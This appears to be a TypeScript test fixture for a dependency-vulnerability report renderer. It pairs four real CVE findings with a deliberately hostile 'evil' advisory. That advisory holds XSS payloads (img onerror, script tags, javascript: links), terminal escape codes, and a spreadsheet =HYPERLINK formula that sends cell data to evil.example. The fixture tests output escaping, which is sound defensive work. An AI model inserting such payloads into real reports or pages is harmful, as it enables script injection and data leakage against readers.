/**
 * Fixed report data for renderer tests. The four real findings are copied from a real end-to-end run over
 * fixtures/demo (web-frontend yarn.lock, search-tool Cargo.lock) and their OSV records; the fifth, in project
 * "evil", is a hostile advisory written to attack every output format.
 */
import type { ReportData, ReportFinding } from '../../src/report/model.js';
import { SEVERITIES, type Severity } from '../../src/model/types.js';

const WEB = 'github.com/acme/web-frontend@main';
const SEARCH = 'github.com/acme/search-tool@main';
const EVIL = 'github.com/acme/evil@main';

/** The hostile strings: HTML/script injection, a javascript: link, a spreadsheet formula, terminal escapes. */
export const HOSTILE = {
  summary: '<img src=x onerror="window.__pwned=1;console.log(\'PWNED\')"></script><script>window.__pwned=2</script>',
  details: 'line one | with a pipe\nline two \x1b[31mred\x1b[0m and <b>bold</b> [click](javascript:window.__pwned=4)',
  jsRef: 'javascript:window.__pwned=3',
  package: '=HYPERLINK("http://evil.example/?"&A1,"x")',
};

function finding(f: Partial<Omit<ReportFinding, 'kev' | 'epss'>> & Pick<Partial<ReportFinding>, 'kev' | 'epss'> & Pick<ReportFinding, 'project' | 'package' | 'version' | 'groupId' | 'severity'>): ReportFinding {
  return {
    id: 0,
    ecosystem: 'npm',
    advisoryIds: [],
    aliases: [],
    cvssScore: null,
    cvssVector: null,
    envScore: null,
    envSeverity: null,
    acceptanceId: null,
    fixedVersion: null,
    status: 'new',
    statusNote: null,
    firstSeen: '2024-05-02T06:00:00.000Z',
    lastSeen: '2024-06-01T06:00:00.000Z',
    fixedAt: null,
    targets: ['yarn.lock'],
    reason: [],
    acceptance: null,
    severitySource: null,
    kev: null,
    epss: null,
    projectUrl: `https://${f.project.replace(/@main$/, '')}`,
    maintainers: ['dev@acme.example'],
    upgrade: null,
    ...f,
    upgradeTarget: f.upgradeTarget !== undefined ? f.upgradeTarget : (f.upgrade ?? null),
  };
}

const range = (id: string, severity: Severity, baseScore: number, scheme: string, introduced: string, fixed: string) => [
  { id, source: 'osv-demo', severity, baseScore, fixed, reason: { kind: 'range', rangeType: 'SEMVER', events: [{ introduced }, { fixed }], scheme } },
];

const counts = (pairs: Partial<Record<Severity, number>>): Record<Severity, number> => Object.fromEntries(SEVERITIES.map((s) => [s, pairs[s] ?? 0])) as Record<Severity, number>;

/** The fixed report data (status all, generated 2024-06-01). */
export function sampleReport(): ReportData {
  const findings: ReportFinding[] = [
    finding({ id: 1, project: SEARCH, ecosystem: 'crates.io', package: 'grep-cli', version: '0.1.4', groupId: 'CVE-2021-3013', advisoryIds: ['RUSTSEC-2021-0071'], aliases: ['RUSTSEC-2021-0071', 'CVE-2021-3013', 'GHSA-g4xg-fxmg-vcg5'], severity: 'CRITICAL', cvssScore: 9.8, fixedVersion: '0.1.6', upgrade: '0.1.6', targets: ['Cargo.lock'], reason: range('RUSTSEC-2021-0071', 'CRITICAL', 9.8, 'crates.io', '0.0.0-0', '0.1.6'), maintainers: ['search@acme.example'], firstSeen: '2024-03-10T06:00:00.000Z' }),
    finding({ id: 2, project: WEB, package: 'axios', version: '0.19.0', groupId: 'CVE-2021-3749', advisoryIds: ['GHSA-cph5-m8f7-6c5x'], aliases: ['GHSA-cph5-m8f7-6c5x', 'CVE-2021-3749'], severity: 'HIGH', cvssScore: 7.5, fixedVersion: '0.21.2', upgrade: '0.21.2', reason: range('GHSA-cph5-m8f7-6c5x', 'HIGH', 7.5, 'npm', '0', '0.21.2'), status: 'open' }),
    finding({ id: 3, project: WEB, package: 'follow-redirects', version: '1.5.10', groupId: 'CVE-2022-0155', advisoryIds: ['GHSA-74fj-2j2h-c42q'], aliases: ['GHSA-74fj-2j2h-c42q', 'CVE-2022-0155'], severity: 'HIGH', cvssScore: 8.0, fixedVersion: '1.14.7', upgrade: '1.14.7', reason: range('GHSA-74fj-2j2h-c42q', 'HIGH', 8.0, 'npm', '0', '1.14.7') }),
    finding({ id: 4, project: WEB, package: 'axios', version: '0.19.0', groupId: 'CVE-2020-28168', advisoryIds: ['GHSA-4w2v-q235-vp99'], aliases: ['GHSA-4w2v-q235-vp99', 'CVE-2020-28168'], severity: 'MEDIUM', cvssScore: 5.9, fixedVersion: '0.21.1', reason: range('GHSA-4w2v-q235-vp99', 'MEDIUM', 5.9, 'npm', '0', '0.21.1'), status: 'fixed', fixedAt: '2024-06-01T06:00:00.000Z' }),
    finding({ id: 5, project: EVIL, package: HOSTILE.package, version: '1.0.0', groupId: 'GHSA-evil-0000-0000', advisoryIds: ['GHSA-evil-0000-0000'], aliases: ['GHSA-evil-0000-0000', '+CVE-2099-0001'], severity: 'LOW', targets: ['sub dir/package-lock.json'], status: 'accepted', statusNote: 'accepted by sec', acceptance: { id: 1, kind: 'accepted', reason: '-only in <b>tests</b>\n| not shipped', expires: null, createdBy: '@sec' }, maintainers: ['evil@acme.example'] }),
  ];
  return {
    generatedAt: '2024-06-01T07:00:00.000Z',
    filters: { status: 'all', projects: null, maintainers: null, severityMin: null },
    totals: { findings: 5, projects: 3, bySeverity: counts({ CRITICAL: 1, HIGH: 2, MEDIUM: 1, LOW: 1 }), byStatus: { new: 2, open: 1, reopened: 0, fixed: 1, accepted: 1, false_positive: 0 } },
    findings,
    advisories: {
      'RUSTSEC-2021-0071': { id: 'RUSTSEC-2021-0071', source: 'osv-demo', summary: '`grep-cli` may run arbitrary executables on Windows', details: "On Windows in versions of `grep-cli` prior to `0.1.6`, it's possible for some\nof the routines to execute arbitrary executables.", aliases: ['CVE-2021-3013', 'GHSA-g4xg-fxmg-vcg5'], references: [{ type: 'PACKAGE', url: 'https://crates.io/crates/grep-cli' }, { type: 'ADVISORY', url: 'https://rustsec.org/advisories/RUSTSEC-2021-0071.html' }], published: '2021-01-10T12:00:00Z', modified: '2023-06-13T13:10:24Z' },
      'GHSA-cph5-m8f7-6c5x': { id: 'GHSA-cph5-m8f7-6c5x', source: 'osv-demo', summary: 'axios Inefficient Regular Expression Complexity vulnerability', details: null, aliases: ['CVE-2021-3749'], references: [], published: null, modified: '2023-01-09T05:02:48Z' },
      'GHSA-74fj-2j2h-c42q': { id: 'GHSA-74fj-2j2h-c42q', source: 'osv-demo', summary: 'Exposure of sensitive information in follow-redirects', details: null, aliases: ['CVE-2022-0155'], references: [], published: null, modified: '2023-08-29T20:35:10Z' },
      'GHSA-evil-0000-0000': { id: 'GHSA-evil-0000-0000', source: 'evil', summary: HOSTILE.summary, details: HOSTILE.details, aliases: ['+CVE-2099-0001'], references: [{ type: 'WEB', url: HOSTILE.jsRef }, { type: 'WEB', url: 'https://example.com/advisory?a=1&b=<x>' }], published: null, modified: '2024-01-01T00:00:00Z' },
    },
    projects: [
      { name: EVIL, url: 'https://github.com/acme/evil', kind: 'repo', maintainers: [{ name: '<script>alert(1)</script>', email: 'evil@acme.example' }], lastScan: null },
      { name: SEARCH, url: 'https://github.com/acme/search-tool', kind: 'repo', maintainers: [{ name: 'Search Team', email: 'search@acme.example' }], lastScan: { startedAt: '2024-06-01T05:00:00.000Z', finishedAt: '2024-06-01T05:00:03.000Z', status: 'ok', commitSha: 'a'.repeat(40), packageCount: 120, error: null } },
      { name: WEB, url: 'https://github.com/acme/web-frontend', kind: 'repo', maintainers: [{ name: 'Web Dev', email: 'dev@acme.example' }], lastScan: { startedAt: '2024-06-01T05:00:00.000Z', finishedAt: '2024-06-01T05:00:05.000Z', status: 'ok', commitSha: 'b'.repeat(40), packageCount: 12, error: null } },
    ],
    // open at the end of each day: 05-30 grep-cli, axios x2; 05-31 + follow-redirects; 06-01 axios CVE-2020-28168 fixed
    trend: {
      perRun: false,
      points: [
        { at: '2024-05-30T23:59:59.999Z', label: '2024-05-30' },
        { at: '2024-05-31T23:59:59.999Z', label: '2024-05-31' },
        { at: '2024-06-01T07:00:00.000Z', label: '2024-06-01' },
      ],
      spans: new Map([[1, [0]], [2, [0]], [3, [1]], [4, [0, 2]], [5, []]]),
    },
  };
}
